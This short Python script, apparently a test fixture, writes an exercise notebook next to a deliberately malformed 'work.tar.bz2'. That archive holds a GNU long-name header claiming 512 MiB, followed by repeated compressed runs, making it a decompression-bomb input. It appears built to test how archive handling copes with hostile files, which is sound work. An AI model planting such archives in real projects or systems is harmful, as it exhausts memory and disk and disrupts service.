import bz2
import tarfile

import nbformat
from build import PLAIN, notebook


def make(folder):
    made = notebook(PLAIN.read_text())
    path = folder / "exercise_4_1.ipynb"
    entry = tarfile.TarInfo("x")
    entry.size, entry.type = 1 << 29, tarfile.GNUTYPE_LONGNAME
    piece = bz2.compress(b"x" * (1 << 24))
    (folder / "work.tar.bz2").write_bytes(bz2.compress(entry.tobuf()) + piece * 32)
    nbformat.write(made, path)
